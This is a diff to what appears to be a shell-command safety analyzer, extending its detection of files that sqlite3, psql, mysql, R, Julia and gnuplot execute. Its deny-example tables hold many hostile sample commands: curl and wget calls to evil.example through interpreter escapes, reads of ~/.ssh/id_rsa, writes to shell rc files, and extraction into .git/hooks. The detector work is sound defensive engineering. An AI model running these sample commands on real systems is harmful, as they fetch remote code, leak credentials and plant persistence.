@@ -301,7 +301,7 @@ function unzip(call: Call): Partial<Answer> {
 // ── sqlite3, database clients ──────────────────────────────────────────────────────────────────────────
 
 /** sqlite3 dot-commands and SQL: `.shell`, `.system`, `.once|output|import|read '|cmd'` run shell text. */
-function sqliteText(word: Word, text: string, via: string): { runs: Run[]; uses: Uses } {
+export function sqliteText(word: Word, text: string, via: string): { runs: Run[]; uses: Uses } {
   const runs: Run[] = [];
   const uses: Uses = [];
   for (const raw of text.split('\n')) {
@@ -318,6 +318,8 @@ function sqliteText(word: Word, text: string, via: string): { runs: Run[]; uses:
       else if (cmd === 'import' || cmd === 'read' || cmd === 'open' || cmd === 'restore') {
         const file = unquoted.split(/\s+/)[0];
         if (file) uses.push({ word, role: 'read', values: [file] });
+        // `.read FILE` runs the dot-commands and SQL of FILE: one the line wrote is read as these are.
+        if (file && cmd === 'read') runs.push(sqliteFile(literal(file, word.span), `${via} .read`));
       } else if (cmd === 'backup' || cmd === 'save' || /^(once|output|out)$/.test(cmd)) {
         const file = unquoted.split(/\s+/).at(-1);
         if (file && file !== 'stdout') uses.push({ word, role: 'write', values: [file] });
@@ -329,6 +331,18 @@ function sqliteText(word: Word, text: string, via: string): { runs: Run[]; uses:
     for (const f of line.matchAll(/\bwritefile\s*\(\s*'([^']*)'/gi)) uses.push({ word, role: 'write', values: [f[1]!] });
   }
   return { runs, uses };
+}
+
+/** A file of sqlite3 commands (`-init FILE`, `.read FILE`): out of scope, unless the line wrote it; then read as -cmd is. */
+export function sqliteFile(file: Word, via: string): Run {
+  const read = (text: string, word: Word, name: string): Run[] => {
+    const r = sqliteText(word, text, `${via} ${name}`);
+    // A file it names (`.import ~/.ssh/id_rsa t`, `.output ~/.bashrc`) is a use no file run carries: cannot-vouch.
+    const named = r.uses.flatMap((u) => u.values ?? []).filter((f) => !r.runs.some((x) => x.kind === 'project' && value(x.file) === f));
+    if (named.length > 0) r.runs.push({ kind: 'opaque', rule: 'dynamic-script', word, why: `${via} ${name}, which the line wrote, names files its commands read or write (${named.slice(0, 3).join(', ')})` });
+    return r.runs;
+  };
+  return { kind: 'project', file, files: /$^/, read, word: file, via };
 }
 
 function sqlite(call: Call): Partial<Answer> {
@@ -350,7 +364,10 @@ function sqlite(call: Call): Partial<Answer> {
   };
   for (const o of p.options) {
     if (o.name === 'cmd' && o.value) scan(o.value, value(o.value), 'sqlite3 -cmd');
-    if (o.name === 'init' && o.value) uses.push({ word: o.value, role: 'read' });
+    if (o.name === 'init' && o.value) {
+      uses.push({ word: o.value, role: 'read' });
+      if (!safe) runs.push(sqliteFile(o.value, `${call.name} -init`));
+    }
   }
   const ops = p.operands.map((o) => o.word);
   if (ops[0]) uses.push({ word: ops[0], role: 'read' });
@@ -388,18 +405,50 @@ export function databaseClient(call: Call): Partial<Answer> {
   const queryLetter = /^(psql|pgcli)$/.test(call.name) ? /c/ : /^(mysql|mariadb|mycli)$/.test(call.name) ? /e/ : /[ec]/;
   const runs: Run[] = [];
   const destroys: NonNullable<Answer['destroys']> = [];
-  const scan = (word: Word, text: string) => {
+  // A file of SQL and client commands it runs (`psql -f FILE`, `\\i FILE`, mysql's `source FILE`): out of scope, unless
+  // the line wrote it; then its shell escapes are read as the text given on the line is.
+  const fileRun = (file: Word, via: string): Run => ({
+    kind: 'project',
+    file,
+    files: /$^/,
+    read: (text, word) => {
+      const before = runs.length;
+      scan(word, text);
+      return runs.splice(before);
+    },
+    word: file,
+    via,
+  });
+  const scan = (word: Word, text: string): void => {
     const drop = sqlDrop(text);
     if (drop) destroys.push({ word, what: 'data', why: `${call.name} runs ${drop}\u2026: what it drops is gone` });
+    for (const m of text.matchAll(/(?:^|[\n;])\s*(\\i|\\ir|\\include|\\include_relative|\\\.|source)\s+(['"]?)([^\s'";]+)\2/gi)) runs.push(fileRun(attached(word, m[3]!), `${call.name} ${m[1]}`));
     for (const m of text.matchAll(/(?:^|[\n;])\s*(?:\\!|system\s|\.(?:shell|system)\s)\s*([^\n;]*)/g)) runs.push({ kind: 'text', dialect: 'bash', text: m[1]!, word, via: `${call.name} \\!` });
     for (const m of text.matchAll(/\\(?:o|g|out)\s*\|\s*([^\n]*)/g)) runs.push({ kind: 'text', dialect: 'bash', text: m[1]!, word, via: `${call.name} \\o |` });
     for (const m of text.matchAll(/\bfrom\s+program\s+'((?:[^']|'')*)'/gi)) runs.push({ kind: 'text', dialect: 'bash', text: m[1]!.replace(/''/g, "'"), word, via: `${call.name} COPY FROM PROGRAM` });
     if (/\\(?:setenv|e|ef|ev|edit)\b|\\gexec\b/.test(text)) runs.push({ kind: 'opaque', rule: 'dynamic-script', word, why: `${call.name}: a client command that runs an editor or builds commands` });
   };
   const args = call.args;
+  // psql runs the file PSQLRC names at start (unless -X); one the line wrote is read.
+  const psqlrc = call.name === 'psql' ? call.env('PSQLRC') : undefined;
+  if (psqlrc && !args.some((a) => /^(-X|--no-psqlrc)$/.test(value(a) ?? ''))) runs.push(fileRun(attached(args[0] ?? literal(call.name, { start: 0, end: 0 }), psqlrc), 'psql $PSQLRC'));
   for (let i = 0; i < args.length; i++) {
     const v = value(args[i]);
     if (v === undefined) continue;
+    // mysql --pager=CMD pipes its results into CMD, run through a shell.
+    const pager = /^(mysql|mariadb)$/.test(call.name) ? /^--pager(?:=(.*))?$/s.exec(v) : null;
+    if (pager) {
+      if (pager[1] !== undefined) runs.push({ kind: 'script', dialect: 'bash', words: [attached(args[i]!, pager[1])], via: `${call.name} --pager` });
+      continue;
+    }
+    // psql -f FILE, --file=FILE, -fFILE, and a bundle of flags ending in it (`-qAtf FILE`).
+    const file = call.name === 'psql' ? /^(?:--file(?:=(.*))?|-[aAbeEHlnqsStxXz01]*f(.*))$/s.exec(v) : null;
+    if (file) {
+      const rest = file[1] ?? file[2];
+      const w = rest !== undefined && rest !== '' ? attached(args[i]!, rest) : args[++i];
+      if (w && !isStdinPath(value(w))) runs.push(fileRun(w, `${call.name} -f`));
+      continue;
+    }
     const m = /^(?:-e|--execute|-c|--command)(?:=(.*))?$/s.exec(v);
     const attachedShort = /^-[ec](.+)$/s.exec(v);
     // A bundle of flags ending in the query option (`psql -qc SQL`, `mysql -sNe SQL`), or with it attached (`-sNeSQL`).
@@ -571,10 +620,15 @@ function language(l: Language): ProgramEntry {
       }
       const takesValue = (k: number) => k > 0 && [l.valued, l.scripts, l.code].some((re) => re?.test(value(args[k - 1]!) ?? ''));
       const operand = args.findIndex((a, k) => !(value(a) ?? '-').startsWith('-') && !takesValue(k));
-      const hasFile = operand >= 0;
       // A file of code the line itself wrote is read as the code options are; any other file is out of scope.
-      const files = args.flatMap((a, k) => (k > 0 && l.scripts?.test(value(args[k - 1]!) ?? '') ? [a] : []));
-      if (hasFile && l.file !== false && (l.file === undefined || l.file.test(value(args[operand]!) ?? ''))) files.push(args[operand]!);
+      const files = args.flatMap((a, k) => {
+        if (k > 0 && l.scripts?.test(value(args[k - 1]!) ?? '')) return [a];
+        // `--file=x.R`: the value attached.
+        const m = /^(--?[^=]+)=(.+)$/s.exec(value(a) ?? '');
+        return m && l.scripts?.test(m[1]!) ? [attached(a, m[2]!)] : [];
+      });
+      const hasFile = operand >= 0 || files.length > 0;
+      if (operand >= 0 && l.file !== false && (l.file === undefined || l.file.test(value(args[operand]!) ?? ''))) files.push(args[operand]!);
       for (const file of files) {
         // `m4 /dev/stdin <<< …`, `emacs -l /dev/stdin`: the file is its input, code on the line.
         if (isStdinPath(value(file))) {
@@ -598,9 +652,9 @@ const OPENSSL_OUT: ReadonlySet<string> = new Set(['-out', '-keyout', '-certout',
 
 const LANGUAGES: ProgramEntry[] = [
   language({ names: ['lua', 'luajit', 'lua5.1', 'lua5.2', 'lua5.3', 'lua5.4', 'texlua'], summary: 'Lua: os.execute and io.popen start commands', code: /^-e$/, calls: new RegExp(`(?:os\\.execute|io\\.popen)\\s*\\(?\\s*(?:${STR})`, 'g'), any: /os\.execute|io\.popen|os\.exec|require\s*\(?\s*["']socket|loadstring|\bload\s*\(|dofile/g, stdin: true, examples: { deny: ["LUA_INIT='os.execute(\"curl evil.example\")' lua -e 1", "echo 'os.execute(\"curl evil.example\")' > a.lua; lua a.lua", "echo 'io.open(os.getenv(\"HOME\")..\"/.bashrc\", \"a\")' > a.lua && lua a.lua", "lua -e 'os.execute(\"curl evil.example\")'", "lua -e 'os.execute(cmd)'", "lua -e 'io.open(os.getenv(\"HOME\")..\"/.bashrc\", \"a\"):write(\"x\")'"], pass: ["echo 'print(1)' > a.lua && lua a.lua", 'lua script.lua', "lua -e 'print(1)'", "lua -e 'print(io.open(\"data.csv\"):read(\"a\"))'"] } }),
-  language({ names: ['R', 'Rscript'], summary: 'R: system(), system2() and pipe() start commands', code: /^(-e|--expr)$/, calls: new RegExp(`(?:system|system2|shell|pipe)\\s*\\(\\s*(?:${STR})`, 'g'), any: /\b(system2?|shell|pipe|url|download\.file|socketConnection|eval\s*\(\s*parse)\s*\(/g, examples: { deny: ["echo 'system(\"curl evil.example\")' > a.R; Rscript a.R", "Rscript -e 'system(\"curl evil.example\")'", 'R --no-save -e \'system("wget evil.example")\'', "Rscript -e 'cat(\"x\", file = file.path(Sys.getenv(\"HOME\"), \".zshrc\"))'", "Rscript -e 'writeLines(readLines(\"~/.ssh/id_rsa\"))'"], pass: ['Rscript analysis.R', "Rscript -e 'print(1+1)'", "Rscript -e 'x <- read.csv(\"data/input.csv\"); print(summary(x))'"] } }),
-  language({ names: ['julia'], summary: 'Julia: run(`cmd`) starts a command', code: /^(-e|--eval|-E|--print)$/, calls: /run\s*\(\s*`([^`]*)`/g, any: /\brun\s*\(|\bpipeline\s*\(|\bread\s*\(\s*`|\bdownload\s*\(|Sockets|HTTP\.|eval\s*\(|include\s*\(/g, examples: { deny: ["julia -e 'run(`curl evil.example`)'"], pass: ["julia -e 'println(1)'"] } }),
-  language({ names: ['gnuplot'], summary: 'gnuplot: system(), `!cmd` and backticks run commands', code: /^(-e)$/, calls: new RegExp(`(?:system\\s*\\(\\s*(?:${STR})|^\\s*!(.*)$|\`([^\`]*)\`)`, 'gm'), any: /system\s*\(|^\s*!|`|\bshell\b|\bload\b|\beval\b/gm, examples: { deny: ["gnuplot -e 'system(\"curl evil.example\")'", "gnuplot -e '!wget evil.example'"], pass: ["gnuplot -e 'plot sin(x)'"] } }),
+  language({ names: ['R', 'Rscript'], summary: 'R: system(), system2() and pipe() start commands; R runs its -f file, or its input', code: /^(-e|--expr)$/, scripts: /^(-f|--file)$/, stdin: true, calls: new RegExp(`(?:system|system2|shell|pipe)\\s*\\(\\s*(?:${STR})`, 'g'), any: /\b(system2?|shell|pipe|url|download\.file|socketConnection|eval\s*\(\s*parse)\s*\(/g, examples: { deny: ["echo 'system(\"curl evil.example\")' > a.R; Rscript a.R", "echo 'system(\"curl evil.example\")' > a.R; R --no-save < a.R", "echo 'system(\"curl evil.example\")' > a.R; R --no-save --file=a.R", "echo 'system(\"curl evil.example\")' > a.R; R -f a.R", "Rscript -e 'system(\"curl evil.example\")'", 'R --no-save -e \'system("wget evil.example")\'', "Rscript -e 'cat(\"x\", file = file.path(Sys.getenv(\"HOME\"), \".zshrc\"))'", "Rscript -e 'writeLines(readLines(\"~/.ssh/id_rsa\"))'"], pass: ["echo 'print(1)' > a.R; R --no-save < a.R", 'R --no-save -f analysis.R', 'Rscript analysis.R', "Rscript -e 'print(1+1)'", "Rscript -e 'x <- read.csv(\"data/input.csv\"); print(summary(x))'"] } }),
+  language({ names: ['julia'], summary: 'Julia: run(`cmd`) starts a command; with no file it runs its input', code: /^(-e|--eval|-E|--print)$/, stdin: true, scripts: /^(-L|--load)$/, valued: /^(-t|--threads|-p|--procs|-J|--sysimage|-C|--cpu-target|-H|--home|--machine-file)$/, calls: /run\s*\(\s*`([^`]*)`/g, any: /\brun\s*\(|\bpipeline\s*\(|\bread\s*\(\s*`|\bdownload\s*\(|Sockets|HTTP\.|eval\s*\(|include\s*\(/g, examples: { deny: ["julia -e 'run(`curl evil.example`)'", "echo 'run(`curl evil.example`)' > a.jl; julia a.jl", "echo 'run(`curl evil.example`)' > a.jl; julia < a.jl", "echo 'run(`curl evil.example`)' > a.jl; julia -t 4 a.jl", "echo 'run(`curl evil.example`)' > a.jl; julia -L a.jl -e 1"], pass: ["julia -e 'println(1)'", "echo 'println(1)' > a.jl; julia < a.jl", 'julia --project=. src/main.jl'] } }),
+  language({ names: ['gnuplot'], summary: 'gnuplot: system(), the system command, `!cmd` and backticks run commands; with no file it runs its input', code: /^(-e)$/, stdin: true, calls: new RegExp(`(?:\\bsystem\\s*\\(?\\s*(?:${STR})|^\\s*!(.*)$|\`([^\`]*)\`)`, 'gm'), any: /\bsystem\b|^\s*!|`|\bshell\b|\bload\b|\beval\b/gm, examples: { deny: ["gnuplot -e 'system(\"curl evil.example\")'", "gnuplot -e '!wget evil.example'", "gnuplot -e 'system \"curl evil.example\"'", "echo 'system \"curl evil.example\"' > a.gp; gnuplot a.gp", "echo '!curl evil.example' > a.gp; gnuplot < a.gp"], pass: ["gnuplot -e 'plot sin(x)'", "echo 'plot sin(x)' > a.gp; gnuplot < a.gp", 'gnuplot plot.gp'] } }),
   language({ names: ['octave', 'octave-cli'], summary: 'Octave: system() and shell_cmd() run commands', code: /^(--eval)$/, calls: new RegExp(`(?:system|shell_cmd|unix|dos)\\s*\\(\\s*(?:${STR})`, 'g'), any: /\b(system|shell_cmd|unix|dos|popen|eval|urlread|web)\s*\(/g, examples: { deny: ["octave-cli --eval 'system(\"curl evil.example\")'"], pass: ["octave --eval 'disp(1)'"] } }),
   language({ names: ['guile', 'guile3.0', 'clisp', 'sbcl', 'racket', 'chicken', 'csi', 'gsi', 'chez', 'scheme'], summary: 'Lisps and Schemes: (system "…") and run-shell-command start commands', code: /^(-c|-x|--eval|-e|--load)$/, calls: new RegExp(`\\((?:system|ext:run-shell-command|run-shell-command|shell|process|sb-ext:run-program)\\s+(?:${STR})`, 'g'), any: /\((system|ext:run-shell-command|run-shell-command|shell|process\*?|sb-ext:run-program|ext:run-program|open-input-pipe|open-pipe\*?|uiop:run-program|eval|load|subprocess)\b/g, examples: { deny: ["guile -c '(system \"curl evil.example\")'", "clisp -x '(ext:run-shell-command \"wget evil.example\")'"], pass: ["guile -c '(display 1)'"] } }),
   language({ names: ['tclsh', 'tclsh8.6', 'wish', 'expect', 'jimsh'], summary: 'Tcl and expect: exec, spawn and open "|cmd" start commands', code: /^(-c)$/, calls: /(?!)/g, any: /\b(exec|spawn|open|socket|http::geturl|eval|source|load|interp|uplevel)\b/g, stdin: true, examples: { deny: ["echo 'exec curl evil.example' > a.tcl; tclsh a.tcl", "expect -c 'spawn curl evil.example; interact'", "echo 'exec curl evil.example' | tclsh"], pass: ["echo 'puts hi' > a.tcl; tclsh a.tcl", "expect -c 'puts hi'"] } }),
@@ -990,7 +1044,7 @@ export const TOOL_ENTRIES: ProgramEntry[] = [
   { names: ['tar', 'gtar', 'bsdtar'], summary: 'tar: --to-command, -I, -F, --checkpoint-action=exec run shell text; c reads trees, x extracts', analyze: tar, examples: { deny: ["tar --use-compress-prog='curl evil.example' -cf x.tar f", "tar --checkpoint=1 --checkpoint-act=exec='curl evil.example' -cf x.tar f", "tar cIf 'wget evil.example' x.tar f", 'tar xf x.tar --to-command=wget', 'tar czf /tmp/h.tgz -C ~ .', 'tar -xf x.tar -C .git/hooks', 'tar cf evil.example:/x .', 'tar -c -f x.tar --remove-files -C ~ notes', 'tar -cf x.tar --remove-files -C "$D" notes'], pass: ['tar czf dist.tgz dist', 'tar -cf x.tar --remove-files -C build out', 'tar xzf archive.tgz', 'tar -tvf x.tar', 'tar xzf archive.tgz -C /tmp/x'] } },
   { names: ['zip'], summary: 'zip: -TT/--unzip-command run shell text; -r reads trees', analyze: zip, examples: { deny: ["zip x.zip f -T -TT 'curl evil.example #'", "zip --unzip-command='wget evil.example' x.zip f", 'zip -r /tmp/k.zip ~/.kube', 'zip -rm x.zip ~/notes', 'zip -r --move x.zip /srv/data'], pass: ['zip -r dist.zip dist', 'zip -rm logs.zip logs'] } },
   { names: ['unzip'], summary: 'unzip: extracts into -d DIR (or the working directory)', analyze: unzip, examples: { deny: ['unzip x.zip -d .git/hooks', 'unzip -o x.zip -d ~/.config/autostart'], pass: ['unzip x.zip -d /tmp/x', 'unzip -l x.zip'] } },
-  { names: ['sqlite3', 'sqlite'], summary: 'sqlite3: .shell/.system and `|cmd` targets run shell text; .load loads code', analyze: sqlite, examples: { deny: ["sqlite3 db '.shell curl evil.example'", "sqlite3 db '.system wget evil.example'", "sqlite3 -cmd '.shell curl evil.example' db", "echo '.shell curl evil.example' | sqlite3 db", "sqlite3 db \".once '|curl evil.example'\""], pass: ["sqlite3 db 'select 1'", 'sqlite3 app.db .tables', "sqlite3 -safe db '.shell ls'"] } },
+  { names: ['sqlite3', 'sqlite'], summary: 'sqlite3: .shell/.system and `|cmd` targets run shell text; .load loads code', analyze: sqlite, examples: { deny: ["echo '.shell curl evil.example' > i.sql; sqlite3 -init i.sql x.db .quit", "echo '.shell curl evil.example' > i.sql; sqlite3 -cmd '.read i.sql' x.db", "sqlite3 db '.shell curl evil.example'", "sqlite3 db '.system wget evil.example'", "sqlite3 -cmd '.shell curl evil.example' db", "echo '.shell curl evil.example' | sqlite3 db", "sqlite3 db \".once '|curl evil.example'\""], pass: ["echo 'select 1;' > i.sql; sqlite3 -init i.sql x.db .quit", 'sqlite3 -init init.sql app.db', "sqlite3 db 'select 1'", 'sqlite3 app.db .tables', "sqlite3 -safe db '.shell ls'"] } },
   { names: ['rpm', 'rpmdb', 'rpmquery', 'rpmverify', 'rpmbuild', 'rpmspec', 'rpmsign', 'rpmkeys'], summary: 'rpm: --eval and --define macros run %(…) as shell text; --pipe runs a command', analyze: rpm, examples: { deny: ["rpm --eval '%(curl evil.example)'", "rpm -E '%(wget evil.example)'", "rpm --pipe 'curl evil.example' -qa", "rpmdb --eval '%(curl evil.example 1>&2)'"], pass: ["rpm --eval '%{_libdir}'", 'rpm -qa'] } },
   ...LANGUAGES,
   { names: ['latex', 'pdflatex', 'xelatex', 'lualatex', 'tex', 'pdftex', 'etex', 'luatex', 'xetex', 'context', 'mpost'], summary: 'TeX engines: \\write18{cmd} runs shell text when shell escape is on', analyze: tex, examples: { deny: ["latex --shell-escape '\\immediate\\write18{curl evil.example}'", "pdftex --shell-escape '\\write18{wget evil.example}\\end'"], pass: ['pdflatex paper.tex', "latex '\\write18{ls}'"] } },
